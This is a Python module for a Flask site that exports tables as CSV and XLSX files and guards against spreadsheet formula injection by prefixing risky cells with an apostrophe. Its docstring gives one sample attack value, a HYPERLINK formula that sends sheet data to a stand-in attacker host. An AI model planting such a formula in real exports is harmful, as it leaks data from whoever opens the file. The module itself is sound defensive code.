"""Tables the site hands out as spreadsheets: CSV (UTF-8 with a byte order mark, or Shift_JIS/CP932 for
Excel on Japanese Windows) and XLSX workbooks (openpyxl), every text cell through `safe_cell`.

A spreadsheet runs a cell that begins with =, +, - or @ (and, in some programs, a tab or a
carriage return first) as a formula: a firm named =HYPERLINK("http://evil.example/?x="&A1,"…")
would become a live link that sends the sheet's data away when the organizer clicks it. Such
text is written with a leading apostrophe, which spreadsheets show as plain text.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable

from flask import Response

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet cell: text that would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return out.getvalue()


def csv_bytes(rows: Iterable[Iterable], encoding: str = "utf-8") -> bytes:
    """UTF-8 with a byte order mark (so spreadsheet programs read it as UTF-8), or CP932 (characters
    it lacks become "?")."""
    if encoding == "cp932":
        return csv_text(rows).encode("cp932", errors="replace")
    return ("\ufeff" + csv_text(rows)).encode("utf-8")


def csv_response(rows: Iterable[Iterable], filename: str, encoding: str = "utf-8") -> Response:
    """A CSV download that spreadsheet programs open in the right encoding and cannot run."""
    charset = "Shift_JIS" if encoding == "cp932" else "utf-8"
    return Response(csv_bytes(rows, encoding), content_type=f"text/csv; charset={charset}",
                    headers={"Content-Disposition": f'attachment; filename="{filename}"'})


def xlsx_bytes(sheets: Iterable[tuple[str, list[list], Callable[[int, int], str]]]) -> bytes:
    """A workbook of (title, rows, number format of data row i, column j) sheets; the first row is the header."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows, formats in sheets:
        ws = wb.create_sheet(title=_sheet_title(title, wb.sheetnames))
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                cell = ws.cell(row=r, column=c)
                if isinstance(value, str):
                    cell.value = safe_cell(value)
                    cell.data_type = "s"  # never a formula, whatever openpyxl would guess
                else:
                    cell.value = value
                    if r > 1 and value is not None and (fmt := formats(r - 2, c - 1)):
                        cell.number_format = fmt
                if r == 1:
                    cell.font = Font(bold=True)
        for c, _v in enumerate(rows[0] if rows else [], start=1):
            width = max((len(str(row[c - 1])) for row in rows if c - 1 < len(row)), default=8)
            ws.column_dimensions[ws.cell(row=1, column=c).column_letter].width = min(max(width * 1.6, 8), 60)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _sheet_title(title: str, taken: list[str]) -> str:
    clean = "".join(ch for ch in title if ch not in '[]:*?/\\')[:28] or "Sheet"
    name, n = clean, 2
    while name in taken:
        name, n = f"{clean[:25]} {n}", n + 1
    return name
